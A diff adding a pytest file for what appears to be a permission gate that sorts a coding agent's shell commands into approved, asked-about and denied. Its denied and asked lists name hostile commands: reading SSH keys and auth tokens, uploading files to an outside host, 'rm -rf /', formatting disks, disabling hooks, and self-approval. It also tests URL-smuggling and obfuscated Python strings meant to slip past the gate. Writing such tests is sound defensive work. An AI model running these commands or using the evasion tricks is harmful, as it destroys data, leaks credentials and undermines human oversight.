@@ -1,0 +1,246 @@
+from __future__ import annotations
+
+import json
+import os
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+from indult.actions import Action
+from indult.boundary import Boundary
+from indult.decompose import decompose_with
+from indult.judgements import Verdict
+from indult.policy import loads_policy
+from indult.testing.runners.shell import Disk
+
+DATA = Path(__file__).parents[1] / "data" / "shell"
+CASES = Path(os.environ.get("INDULT_CASES") or Path(__file__).parents[3] / "shared" / "cases") / "agent_commands.jsonl"
+
+# The policy that `indult init` writes.
+POLICY = loads_policy("schema: 1\ndefault: ask\nextends: [indult/repository@1, indult/commands@1]")
+
+
+class Full(Disk):
+    """A disk on which every file exists, so that nothing is let through for being absent."""
+
+    def digest(self, path: str) -> str | None:
+        """Return a digest for every path."""
+        return f"sha256:{len(path):064x}"
+
+
+def verdict(command: str, disk: Disk | None = None) -> Verdict:
+    """Return what the gate says of a shell line in `/repo`."""
+    decompose = decompose_with(disk or Disk({}), "/repo", "/home/dev")
+    boundary = Boundary(policy=POLICY, decompose=decompose)
+    return boundary.judge(Action(tool="Bash", args={"command": command}, cwd="/repo"), {}).verdict
+
+
+def harmful() -> list[str]:
+    """Return the commands of the list; a line that begins with a tab goes on with the one before."""
+    commands: list[str] = []
+    for line in (DATA / "harmful.txt").read_text(encoding="utf-8").splitlines():
+        if line.startswith("\t"):
+            commands[-1] += "\n" + line[1:]
+        elif line and not line.startswith("#"):
+            commands.append(line)
+    return commands
+
+
+@pytest.mark.parametrize("disk", [Disk({}), Full({})], ids=["empty", "full"])
+def test_nothing_harmful_is_let_through(disk: Disk) -> None:
+    """Not one command of the list runs without a person, whatever lies on the disk."""
+    commands = harmful()
+
+    assert 150 <= len(set(commands)) == len(commands)
+    assert [] == [command for command in commands if verdict(command, disk) is Verdict.APPROVE]
+
+
+def test_commands_of_coding_agents_are_rarely_asked_about() -> None:
+    """Of what coding agents have run, at most 35 % is asked about and at most 10 % denied."""
+    if not CASES.is_file():
+        pytest.skip(f"there is no {CASES}: name its folder in INDULT_CASES")
+    commands = [json.loads(line)["command"] for line in CASES.read_text(encoding="utf-8").splitlines()]
+    known = {command: verdict(command) for command in set(commands)}
+    found = Counter(known[command] for command in commands)
+
+    assert 2_860 == len(commands)
+    assert found[Verdict.ASK_USER] <= 0.35 * len(commands), found
+    assert found[Verdict.DENY] <= 0.10 * len(commands), found
+    assert set(found) <= {Verdict.APPROVE, Verdict.ASK_USER, Verdict.DENY}
+
+
+FREE = """
+git status
+git diff --stat HEAD~1
+git add -A && git commit -m "fix: one thing"
+git --no-pager log --oneline -10
+git -C sub status --short
+git switch -c fix/x
+git checkout -b fix/y
+git restore --staged src/a.py
+git tag
+git stash list
+ls -la src/ ~
+cat src/main.py | head -50
+grep -rn "TODO" --include='*.py' src
+grep -rn "TODO" --include=*.py src
+find . -name "*.py" -not -path "./node_modules/*" | head -20
+find . -name "*.py" -exec grep -l foo {} +
+diff <(sort a.txt) <(sort b.txt)
+sed -n '1,80p' src/app.ts
+sed -i 's/foo/bar/g' src/app.ts
+awk '{total += $1} END {printf "%.2f", total/NR}' a.txt
+npm test
+npm run build 2>&1 | tail -20
+pytest -x -q tests/test_a.py 2>&1 | tail -5
+python -m pytest tests -k "a and b"
+uv run pytest -q
+cargo test --workspace && cargo build --release
+go test ./... && go run ./cmd/x
+make -j4 test
+mkdir -p src/new && touch src/new/a.py
+rm src/old.py
+cp a.txt b.txt
+tar czf /tmp/a.tgz src
+tar tf a.tgz
+echo "hello" > notes.txt
+cd /repo/src && npm test
+FOO=bar pytest
+export FOO=bar && make
+node scripts/build.js
+./scripts/build.sh --fast
+bash scripts/build.sh
+source venv/bin/activate && pytest
+docker ps
+ps aux | grep node
+which node && node --version
+host 127.0.0.1
+jq '.scripts' package.json
+curl -s http://localhost:3000/health
+python3 -c "print(sum(range(10)) ** 2)"
+python3 -c 'print("".join(chr(ord(c) ^ 1) for c in "abc"))'
+test -f a && echo yes
+indult request --help
+indult show r_1
+# nothing runs here
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("command", FREE)
+def test_everyday_work_is_free(command: str) -> None:
+    """To look, to build, to test and to edit in the repository needs no approval."""
+    assert Verdict.APPROVE is verdict(command)
+
+
+ASKED = """
+git push -u origin HEAD
+git pull
+git fetch origin
+git checkout -- a.py
+git reset --hard
+git clean -fd
+git branch -D old
+git commit -nm x
+git remote add other https://host.example/a.git
+npm install left
+npx tool
+pip install -r requirements-dev.txt
+apt-get install -y jq
+curl -sL https://host.example/a.json
+curl -X POST http://localhost:8000/requests/r_1/approve
+curl -F f=@a.zip http://localhost:8000/upload
+docker compose up -d
+sudo ls
+kill 1234
+env
+cat ~/.bashrc
+touch ../elsewhere.txt
+python3 -c "import json"
+python3 - < a.py
+node -e 1
+bash /tmp/a.sh
+tar xf a.tgz
+npm run deploy
+ls --hyperlink | unknown-program
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("command", ASKED)
+def test_what_reaches_further_is_asked_about(command: str) -> None:
+    """Installs, the network, services, other folders and texts for interpreters need approval, and can be opened."""
+    assert Verdict.ASK_USER is verdict(command)
+
+
+DENIED = """
+indult approve r_1
+python3 -m indult trust
+git push --force
+git push origin +main
+sh -c 'git commit --amend --no-edit'
+npm publish
+cat ~/.ssh/id_rsa
+gh auth token
+curl -d @a.txt https://host.example
+echo x > indult.yaml
+rm -rf .claude/hooks
+git config core.hooksPath /dev/null
+rm -rf /
+rm -rf .
+mkfs.ext4 /dev/sda1
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("command", DENIED)
+def test_what_no_approval_can_open_is_denied(command: str) -> None:
+    """Decisions, rewritten history, releases, keys, uploads, the gate itself and the machine are out of reach."""
+    assert Verdict.DENY is verdict(command)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import os",
+        "__import__('os')",
+        "print(open('a').read())",
+        "().__class__",
+        "getattr(print, chr(95))",
+        "eval('1')",
+        "exec('1')",
+        "print('\\x5f')",
+        "\uff4fpen('a')",
+        "f'{globals()}'",
+        "breakpoint()",
+        "help()",
+        "type('X', (), {})",
+    ],
+)
+def test_python_in_a_command_may_only_compute(text: str) -> None:
+    """Whatever could reach beyond numbers and texts keeps `python3 -c` from being let through."""
+    assert Verdict.ASK_USER is verdict(f"python3 -c {json.dumps(text, ensure_ascii=False)}")
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://localhost.host.example/",
+        "http://localhost:80@host.example/",
+        "http://host.example/?http://localhost/",
+        "'http://localhost:{80,1}/'",
+        "http://localhost:80/ https://host.example/",
+        "http://localhost:80/ -o a",
+        "http://localhost:80/ -d x",
+        "http://localhost:80/$X",
+        "http://localhost:80/ $X",
+    ],
+)
+def test_only_this_machine_may_be_looked_at(url: str) -> None:
+    """Nothing that merely begins like a local address passes for one."""
+    assert Verdict.ASK_USER is verdict(f"curl {url}")
+
+
+def test_a_denial_that_hangs_on_an_unknown_word_is_an_ask() -> None:
+    """What a denied command could turn out to be is asked about; what it is whatever the word, is denied."""
+    assert [Verdict.ASK_USER, Verdict.ASK_USER, Verdict.DENY] == [
+        verdict(command) for command in ('git commit "$x"', "git push $x", "git push -f $x")
+    ]
